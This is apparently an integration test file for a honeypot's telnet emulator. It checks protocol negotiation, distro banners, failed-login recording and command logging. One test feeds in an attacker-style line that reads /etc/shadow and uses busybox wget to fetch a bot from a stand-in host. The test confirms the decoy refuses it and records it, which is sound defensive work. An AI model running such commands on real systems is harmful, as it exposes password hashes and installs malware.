"""The telnet emulator against a small real telnet client (IAC-aware) on a raw socket."""

from __future__ import annotations

from pathlib import Path

import anyio
import pytest
from anyio.abc import SocketStream

from tests.integration.emulators.ssh_fixtures import TIMEOUT_S, Shelled, deploy_shell

pytestmark = pytest.mark.anyio

IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240
ECHO, SGA, TTYPE, NAWS, TSPEED, LINEMODE, XDISPLOC, NEW_ENVIRON = 1, 3, 24, 31, 32, 34, 35, 39
# What Linux's telnet(1) tells when asked: terminal type, speed, X display.
CLIENT_VALUES = {TTYPE: b"XTERM", TSPEED: b"38400,38400", XDISPLOC: b"attacker:0"}
NETKIT_FIRST = bytes([IAC, DO, TTYPE, IAC, DO, TSPEED, IAC, DO, XDISPLOC, IAC, DO, NEW_ENVIRON])


class TelnetClient:
    """Negotiates like Linux telnet(1) (terminal options, NAWS 80x24), keeps what it got."""

    def __init__(self, stream: SocketStream, user: str = "") -> None:
        self.stream = stream
        self.user = user  # sent as NEW-ENVIRON USER, like `telnet -l user`
        self.text = ""  # everything displayed so far
        self.raw = b""  # every byte received, negotiation included
        self.commands: list[bytes] = []  # raw IAC commands received, in order
        self.closed = False

    async def read_until(self, marker: str) -> str:
        """Display text up to and including `marker` (everything so far if the server closes)."""
        with anyio.fail_after(TIMEOUT_S):
            while marker not in self.text and not self.closed:
                await self._receive()
        head, found, rest = self.text.partition(marker)
        self.text = rest
        return head + found

    async def line(self, text: str) -> None:
        """Type a line (CR LF, as telnet clients send it)."""
        await self.stream.send(text.encode() + b"\r\n")

    async def wait_closed(self) -> None:
        """Read until the server closes the connection."""
        with anyio.fail_after(TIMEOUT_S):
            while not self.closed:
                await self._receive()

    async def _receive(self) -> None:
        try:
            data = await self.stream.receive()
        except (anyio.EndOfStream, anyio.BrokenResourceError):
            self.closed = True
            return
        self.raw += data
        plain, answer, index = bytearray(), bytearray(), 0
        while index < len(data):
            if data[index] == IAC and index + 2 < len(data) and data[index + 1] == SB:
                end = data.index(bytes([IAC, SE]), index)
                answer += self._subnegotiation(data[index + 2])
                index = end + 2
            elif data[index] == IAC and index + 2 < len(data):
                self.commands.append(data[index : index + 3])
                answer += self._answer(data[index + 1], data[index + 2])
                index += 3
            else:
                plain.append(data[index])
                index += 1
        if answer:
            await self.stream.send(bytes(answer))
        self.text += plain.decode("utf-8", "replace")

    @staticmethod
    def _answer(verb: int, option: int) -> bytes:
        if verb == DO and option in (TTYPE, TSPEED, XDISPLOC, NEW_ENVIRON):
            return bytes([IAC, WILL, option])
        if verb == DO and option == NAWS:
            return bytes([IAC, WILL, NAWS, IAC, SB, NAWS, 0, 80, 0, 24, IAC, SE])
        if verb == DO:
            return bytes([IAC, WONT, option])
        if verb == WILL:
            return bytes([IAC, DO if option in (ECHO, SGA) else DONT, option])
        return b""

    def _subnegotiation(self, option: int) -> bytes:
        if option == NEW_ENVIRON:
            env = b"\x00USER\x01" + self.user.encode() if self.user else b""
            return bytes([IAC, SB, NEW_ENVIRON, 0]) + env + bytes([IAC, SE])
        return bytes([IAC, SB, option, 0]) + CLIENT_VALUES.get(option, b"") + bytes([IAC, SE])


async def open_client(env: Shelled, user: str = "") -> TelnetClient:
    """A client connected to the decky's telnet port."""
    with anyio.fail_after(TIMEOUT_S):
        stream = await anyio.connect_tcp(env.ip, env.ports["telnet"])
    return TelnetClient(stream, user)


async def login(client: TelnetClient, username: str, password: str) -> str:
    """Answer the login and password prompts; what the server showed after the password."""
    await client.read_until("login: ")
    await client.line(username)
    await client.read_until("Password: ")
    await client.line(password)
    return await client.read_until("\n")


async def first_bytes(env: Shelled, quiet_s: float = 0.5) -> bytes:
    """What the server sends to a client that never answers (as nmap's NULL probe sees it)."""
    data = b""
    with anyio.fail_after(TIMEOUT_S):
        async with await anyio.connect_tcp(env.ip, env.ports["telnet"]) as stream:
            with anyio.move_on_after(quiet_s):
                while True:
                    data += await stream.receive()
    return data


async def test_ubuntu_asks_terminal_options_and_waits_like_netkit(tmp_path: Path) -> None:
    """Ubuntu's telnetd asks DO TTYPE/TSPEED/XDISPLOC/NEW-ENVIRON and says nothing more."""
    async with deploy_shell(tmp_path, tmp_path / "keys", "127.81.2.1") as env:
        assert await first_bytes(env) == NETKIT_FIRST


async def test_ubuntu_negotiates_then_shows_issue_net_and_prompt(tmp_path: Path) -> None:
    """After the terminal values, the modes and WILL ECHO, /etc/issue.net and `login:`."""
    async with deploy_shell(tmp_path, tmp_path / "keys", "127.81.2.2") as env:
        client = await open_client(env)
        greeting = await client.read_until("login: ")
        subnegotiations = bytes([IAC, SB, TSPEED, 1, IAC, SE, IAC, SB, XDISPLOC, 1, IAC, SE])
        subnegotiations += bytes([IAC, SB, NEW_ENVIRON, 1, IAC, SE, IAC, SB, TTYPE, 1, IAC, SE])
        modes = bytes([IAC, WILL, SGA, IAC, DO, ECHO, IAC, DO, NAWS, IAC, WILL, 5, IAC, DO, 33])
        assert client.raw.startswith(NETKIT_FIRST + subnegotiations + modes)
        assert client.commands[-1] == bytes([IAC, WILL, ECHO])
        assert greeting == "Ubuntu 22.04.4 LTS\r\nfiles-01 login: "
        await client.stream.aclose()
        record = await env.wait_for("telnet", "telnet_client")
    assert (record.fields["term"], record.fields["speed"]) == ("XTERM", "38400,38400")
    assert (record.fields["display"], record.fields["window"]) == ("attacker:0", "80x24")


async def test_debian_12_greets_like_its_inetutils_telnetd(tmp_path: Path) -> None:
    """Debian 12's telnetd (inetutils) bytes, as read off the packaged daemon, up to login."""
    expected = b"".join(
        [
            b"\xff\xfb%\xff\xfb&\xff\xfd\x18\xff\xfd \xff\xfd#\xff\xfd'\xff\xfd$",
            b"\xff\xfa \x01\xff\xf0\xff\xfa#\x01\xff\xf0",
            b"\xff\xfa'\x01\xff\xf0\xff\xfa\x18\x01\xff\xf0",
            b'\xff\xfb\x03\xff\xfd\x01\xff\xfd"\xff\xfd\x1f\xff\xfb\x05\xff\xfd!',
            b"\xff\xfb\x01\xff\xfd\x06\xff\xfd\x00",
            b"\r\nLinux 6.1.0-18-amd64 (files-01) (pts/0)\r\n\r\nfiles-01 login: ",
        ]
    )
    async with deploy_shell(tmp_path, tmp_path / "keys", "127.81.2.6", distro="debian-12") as env:
        client = await open_client(env)
        await client.read_until("login: ")
        await client.stream.aclose()
    assert client.raw == expected


async def test_busybox_offers_echo_and_prompts_at_once(tmp_path: Path) -> None:
    """Firmware runs BusyBox telnetd: DO ECHO, DO NAWS, WILL ECHO, WILL SGA, then `login:`."""
    async with deploy_shell(
        tmp_path, tmp_path / "keys", "127.81.2.7", distro="embedded-busybox"
    ) as env:
        offer = bytes([IAC, DO, ECHO, IAC, DO, NAWS, IAC, WILL, ECHO, IAC, WILL, SGA])
        assert await first_bytes(env) == offer + b"\r\r\nfiles-01 login: "


async def test_user_from_the_environment_skips_the_username_prompt(tmp_path: Path) -> None:
    """`telnet -l admin` sends USER: no banner, login asks only for the password."""
    async with deploy_shell(tmp_path, tmp_path / "keys", "127.81.2.8") as env:
        client = await open_client(env, user="admin")
        assert "login:" not in await client.read_until("Password: ")
        await client.line("Admin123")
        await client.read_until("admin@files-01:~$ ")
        await client.stream.aclose()
        accepted = await env.wait_for("telnet", "auth", result="success")
    assert accepted.fields["username"] == "admin"


async def test_refuses_other_options_once(tmp_path: Path) -> None:
    """A proposed option is refused once, however often the client repeats it (no loops)."""
    async with deploy_shell(tmp_path, tmp_path / "keys", "127.81.2.9") as env:
        client = await open_client(env)
        await client.read_until("login: ")
        await client.stream.send(bytes([IAC, WILL, LINEMODE]) * 3 + b"root\r\n")
        await client.read_until("Password: ")
        assert client.commands.count(bytes([IAC, DONT, LINEMODE])) == 1
        await client.stream.aclose()


async def test_failed_logins_are_recorded_then_disconnected(tmp_path: Path) -> None:
    """Three wrong passwords are recorded as `auth` failures, then the server hangs up."""
    async with deploy_shell(tmp_path, tmp_path / "keys", "127.81.2.3") as env:
        client = await open_client(env)
        for guess in ("admin", "1234", "root"):
            await login(client, "root", guess)
            assert (await client.read_until("Login incorrect")).strip() == "Login incorrect"
        await client.wait_closed()
        attempts = env.records("telnet", "auth")
        assert [(r.fields["username"], r.fields["password"]) for r in attempts] == [
            ("root", "admin"),
            ("root", "1234"),
            ("root", "root"),
        ]
        assert {r.fields["result"] for r in attempts} == {"failure"}
        assert (await env.wait_for("telnet", "disconnect")).fields["reason"] == "closed"


async def test_login_opens_the_shell_and_records_commands(tmp_path: Path) -> None:
    """A configured pair gets the fake shell; the password is not echoed; lines are recorded."""
    async with deploy_shell(tmp_path, tmp_path / "keys", "127.81.2.4") as env:
        client = await open_client(env)
        await login(client, "admin", "Admin123")
        await client.read_until("admin@files-01:~$ ")
        await client.line("uname -a")
        assert "Linux files-01 5.15.0-105-generic" in await client.read_until("$ ")
        await client.line("cat /etc/shadow; busybox wget http://example.test/bot")
        answer = await client.read_until("$ ")
        assert "cat: /etc/shadow: Permission denied" in answer
        assert "wget: unable to resolve host address" in answer
        await client.line("exit")
        await client.wait_closed()
        accepted = await env.wait_for("telnet", "auth", result="success")
        assert (accepted.fields["username"], accepted.fields["password"]) == ("admin", "Admin123")
        commands = [r.fields["command"] for r in env.records("telnet", "command")]
        assert commands == [
            "uname -a",
            "cat /etc/shadow; busybox wget http://example.test/bot",
            "exit",
        ]


async def test_password_is_not_echoed(tmp_path: Path) -> None:
    """Typed characters are echoed at the login prompt but not at the password prompt."""
    async with deploy_shell(tmp_path, tmp_path / "keys", "127.81.2.5") as env:
        client = await open_client(env)
        await client.read_until("login: ")
        await client.line("deploy")
        assert (await client.read_until("Password: ")).startswith("deploy\r\n")
        await client.line("hunter2")
        shown = await client.read_until("Login incorrect")
        assert "hunter2" not in shown
        await client.stream.aclose()
